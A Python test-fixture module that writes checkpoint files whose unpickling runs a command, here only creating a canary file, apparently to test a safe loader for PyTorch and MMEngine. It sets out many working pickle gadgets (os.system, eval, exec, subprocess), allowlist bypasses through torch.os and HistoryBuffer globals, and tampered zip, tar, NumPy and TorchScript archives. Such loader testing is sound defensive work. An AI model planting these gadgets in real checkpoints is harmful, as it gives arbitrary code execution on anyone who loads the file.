"""Checkpoints that would run a command when they are unpickled, each in its own way.

The command makes a canary file. ``write_all`` starts from an honest checkpoint, so that
whoever reads only a part of the file meets the payload all the same.
"""

from __future__ import annotations

import functools
import importlib
import io
import os
import pickle
import subprocess
import tarfile
import zipfile
from collections import OrderedDict, defaultdict
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch
from mmengine.logging import HistoryBuffer


class Call:
    """Pickles as the call ``function(*args)``; all three may be such calls again."""

    def __init__(self, function: Callable, *args: object) -> None:
        self.call = function, args

    def __call__(self) -> None:
        """Never called, but pickle asks whether it could be."""

    def __reduce__(self) -> tuple:
        return self.call


class StateSetter:
    """Pickles as text whose state is set by ``eval``."""

    def __init__(self, code: str) -> None:
        self.parts = str, (code,), {}, None, None, eval

    def __reduce__(self) -> tuple:
        return self.parts


def in_meta(base: dict, command: str) -> dict:
    """os.system beside the epoch."""
    return {**base, 'meta': {**base['meta'], 'x': Call(os.system, command)}}


def evaluated(base: dict, command: str) -> dict:
    """builtins.eval."""
    return {**base, 'x': Call(eval, f'__import__("os").system({command!r})')}


def in_state_dict(base: dict, command: str) -> dict:
    """builtins.exec deep among the weights."""
    code = f'import os; os.system({command!r})'
    weights = OrderedDict(base['state_dict'])
    weights['linear.extra'] = [[Call(exec, code)]]
    return {**base, 'state_dict': weights}


def in_message_hub(base: dict, command: str) -> dict:
    """A process among the logged scalars."""
    hub = base['message_hub']
    scalars = {**hub['log_scalars'], 'x': Call(subprocess.call, command.split())}
    return {**base, 'message_hub': {**hub, 'log_scalars': scalars}}


def in_optimizer(base: dict, command: str) -> dict:
    """os.system as a parameter group."""
    groups = [Call(os.system, command)]
    return {**base, 'optimizer': {**base['optimizer'], 'param_groups': groups}}


def as_partial(base: dict, command: str) -> dict:
    """functools.partial of functools.partial."""
    chain = functools.partial(functools.partial(os.system), command)
    return {**base, 'x': Call(chain)}


def in_object_array(base: dict, command: str) -> dict:
    """A NumPy array of objects."""
    array = np.empty(1, dtype=object)
    array[0] = Call(os.system, command)
    return {**base, 'meta': {**base['meta'], 'dataset_meta': array}}


def imported(base: dict, command: str) -> dict:
    """importlib, then getattr, then the call."""
    module = Call(importlib.import_module, 'os')
    return {**base, 'x': Call(Call(getattr, module, 'system'), command)}


def as_state_setter(base: dict, command: str) -> dict:
    """A state setter, which pickle calls with object and state."""
    return {**base, 'x': StateSetter(f'__import__("os").system({command!r})')}


def as_default_factory(base: dict, command: str) -> dict:
    """A dict that calls os.system for a key that it lacks."""
    factory = defaultdict(functools.partial(os.system, command))
    return {**base, 'message_hub': factory}


def through_history(base: dict, command: str) -> dict:
    """getattr on an allowed class, up to its globals and the built-in eval."""
    scope = Call(getattr, Call(getattr, HistoryBuffer, '__init__'), '__globals__')
    names = Call(Call(getattr, scope, 'get'), '__builtins__')
    function = Call(Call(getattr, names, 'get'), 'eval')
    return {**base, 'x': Call(function, f'__import__("os").system({command!r})')}


def as_config(base: dict, command: str) -> dict:
    """A configuration, which MMEngine runs as Python when it resumes: no pickle."""
    code = f'import os\nos.system({command!r})\n'
    return {**base, 'meta': {**base['meta'], 'config': code}}


SAVED = (
    *(in_meta, evaluated, in_state_dict, in_message_hub, in_optimizer, as_partial),
    *(in_object_array, imported, as_state_setter, as_default_factory),
    *(through_history, as_config),
)
"""Written by ``torch.save``."""


def raw_pickle(command: str) -> bytes:
    """Opcodes by hand: a dotted name below an allowed module (``torch.os.system``)."""
    text = command.encode()
    return (
        b'\x80\x04\x8c\x05torch\x8c\x17serialization.os.system\x93'
        + b'X'
        + len(text).to_bytes(4, 'little')
        + text
        + b'\x85R.'
    )


def write_tampered_zip(path: Path, base: dict, command: str) -> None:
    """An honest archive whose data.pkl was replaced."""
    buffer = io.BytesIO()
    torch.save(base, buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, 'w') as target:
        for name in source.namelist():
            is_data = name.endswith('/data.pkl')
            target.writestr(name, raw_pickle(command) if is_data else source.read(name))


def write_old_format(path: Path, base: dict, command: str) -> None:
    """The format before PyTorch 1.6: pickles in a row."""
    content = in_meta(base, command)
    torch.save(content, path, _use_new_zipfile_serialization=False)


def write_tar(path: Path, base: dict, command: str) -> None:
    """The format before PyTorch 0.2: a tar archive."""
    content = pickle.dumps(Call(os.system, command), protocol=2)
    with tarfile.open(path, 'w') as archive:
        for name in ('storages', 'tensors', 'pickle', 'sys_info'):
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))


def write_bare_pickle(path: Path, base: dict, command: str) -> None:
    """No checkpoint at all, but a pickle."""
    path.write_bytes(pickle.dumps(Call(os.system, command)))


def write_archive_of_arrays(path: Path, base: dict, command: str) -> None:
    """NumPy's archive with an array of objects, named like a checkpoint."""
    array = np.array([Call(os.system, command)], dtype=object)
    with path.open('wb') as file:
        np.savez(file, weights=array)


def write_torchscript(path: Path, base: dict, command: str) -> None:
    """A program of TorchScript, which torch.load hands to torch.jit.load."""
    buffer = io.BytesIO()
    torch.save(base, buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, 'w') as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
        target.writestr('archive/constants.pkl', raw_pickle(command))


WRITTEN = (
    *(write_tampered_zip, write_old_format, write_tar, write_bare_pickle),
    *(write_archive_of_arrays, write_torchscript),
)
"""Written by hand."""


def write_all(folder: Path, base: dict, canary: Path) -> dict[str, Path]:
    """Write every kind.

    Args:
        folder: where.
        base: an honest checkpoint of a training.
        canary: the file that the payloads make.

    Returns:
        The files by the name of their kind.
    """
    command = f'touch {canary}'
    paths = {}
    for make in SAVED:
        paths[make.__name__] = folder / f'{make.__name__}.pth'
        torch.save(make(base, command), paths[make.__name__])
    for write in WRITTEN:
        name = write.__name__.removeprefix('write_')
        paths[name] = folder / f'{name}.pth'
        write(paths[name], base, command)
    return paths
